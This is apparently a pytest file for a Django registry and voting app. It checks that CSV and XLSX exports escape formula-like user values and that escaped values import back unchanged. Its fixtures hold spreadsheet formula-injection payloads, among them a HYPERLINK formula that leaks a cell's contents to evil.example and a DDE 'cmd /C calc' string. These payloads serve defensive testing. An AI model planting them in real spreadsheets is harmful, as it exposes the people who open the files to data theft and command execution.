"""Exports never write a live formula, and an export imports back unchanged."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from canbo import spreadsheets as xl
from canbo.classification import io as calc_io
from canbo.classification import outputs
from canbo.registry import bulk, models
from canbo.registry.io_files import write_table
from canbo.voting.exports import results_xlsx
from tests import factories as f
from tests.integration.test_import_export import PEOPLE_HEADER, UNITS_HEADER, run

pytestmark = pytest.mark.django_db(transaction=True)

AS_OF = dt.date(2025, 1, 1)
# Stored before the shared field rules existed, or written straight into the database.
LEGACY = {
    "full_name": '=HYPERLINK("http://evil.example/?"&A1,"Nguyễn Văn An")',
    "hometown": "@SUM(1+1)*cmd|' /C calc'!A0",
    "ethnicity": "+Kinh",
    "party_card_number": "-2+3",
}


@pytest.fixture
def tree() -> f.SmallTree:
    return f.small_tree()


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return book.read("xl/worksheets/sheet1.xml").decode()


def test_a_people_export_writes_no_live_formula_in_csv_or_xlsx(
    tree: f.SmallTree, tmp_path: Path
) -> None:
    pid = f.person("Nguyễn Văn An", tree.cell_a)
    models.Person.objects.filter(pk=pid).update(**LEGACY)
    write_table(tmp_path / "p.csv", PEOPLE_HEADER, bulk.export_people(AS_OF, None))
    with (tmp_path / "p.csv").open(encoding="utf-8-sig", newline="") as fh:
        (_, row) = list(csv.reader(fh))
    for column, value in LEGACY.items():
        assert row[PEOPLE_HEADER.index(column)] == "'" + value
    write_table(tmp_path / "p.xlsx", PEOPLE_HEADER, bulk.export_people(AS_OF, None))
    assert "<f>" not in _sheet_xml((tmp_path / "p.xlsx").read_bytes())
    sheet = load_workbook(tmp_path / "p.xlsx").worksheets[0]
    cells = {h: c for h, c in zip(PEOPLE_HEADER, sheet[2], strict=True)}
    for column, value in LEGACY.items():
        assert (cells[column].value, cells[column].data_type) == (value, "s")


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_values_the_escape_touches_import_back_unchanged(
    tree: f.SmallTree, tmp_path: Path, suffix: str
) -> None:
    pid = f.person("Nguyễn Văn An", tree.cell_a)
    models.Person.objects.filter(pk=pid).update(hometown="-Xã Lũng Cú", ethnicity="'Tày")
    models.UnitVersion.objects.filter(unit_id=tree.cell_a).update(legal_basis="-QĐ 12/2020")
    units, people = tmp_path / f"u{suffix}", tmp_path / f"p{suffix}"
    write_table(units, UNITS_HEADER, bulk.export_units(AS_OF, None))
    write_table(people, PEOPLE_HEADER, bulk.export_people(AS_OF, None))
    first = list(bulk.export_units(AS_OF, None)), list(bulk.export_people(AS_OF, None))
    call_command("flush", "--noinput", verbosity=0)
    run("units", units)
    run("people", people)
    assert (list(bulk.export_units(AS_OF, None)), list(bulk.export_people(AS_OF, None))) == first
    assert models.Person.objects.get().hometown == "-Xã Lũng Cú"


def test_classification_and_voting_spreadsheets_write_user_text_as_text(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://x","Xem")'
    columns = [xl.Column("STT", xl.INTEGER), xl.Column("Họ và tên")]
    form = outputs.Form(
        hostile, "Danh sách", "Năm 2025", columns, [["1", hostile]], "T/M CHI BỘ", AS_OF
    )
    data = outputs.xlsx_bytes(form)
    assert "<f>" not in _sheet_xml(data)
    book = load_workbook(io.BytesIO(data))
    # Below the heading (unit, title, year) and a blank line: the header, then the row.
    assert (book.worksheets[0]["B6"].value, book.worksheets[0]["A6"].value) == (hostile, 1)
    calc_io.write_xlsx(tmp_path / "r.xlsx", [("kết quả", ["id", "name"], [["1", hostile]])])
    assert "<f>" not in _sheet_xml((tmp_path / "r.xlsx").read_bytes())
    out = io.StringIO()
    calc_io.write_csv(out, ["id", "name"], [["1", hostile]])
    assert out.getvalue().splitlines()[1].startswith("1,\"'=HYPERLINK")
    assert "<f>" not in _sheet_xml(results_xlsx(_results(hostile)))


def _results(name: str) -> dict[str, object]:
    person = {
        "full_name": name, "position": "@Bí thư", "valid": 10, "invalid": 0,
        "high": 5, "mid": 5, "low": 0, "percent": {"high": 50, "mid": 50, "low": 0},
        "band": "mid", "consequences": [], "band_citation": {"text": "QĐ 96"},
    }  # fmt: skip
    return {
        "conference": SimpleNamespace(title="=Hội nghị", place="@Yên Minh", held_on=AS_OF),
        "unit_name": "=Đảng bộ",
        "session": SimpleNamespace(title="+Phiên 1"),
        "version": SimpleNamespace(number=1, reason="-"),
        "data": {
            "figures": {"issued": 10, "collected": 10},
            "rulebook": {"document": "QĐ 96-QĐ/TW"},
            "persons": [person],
        },
    }
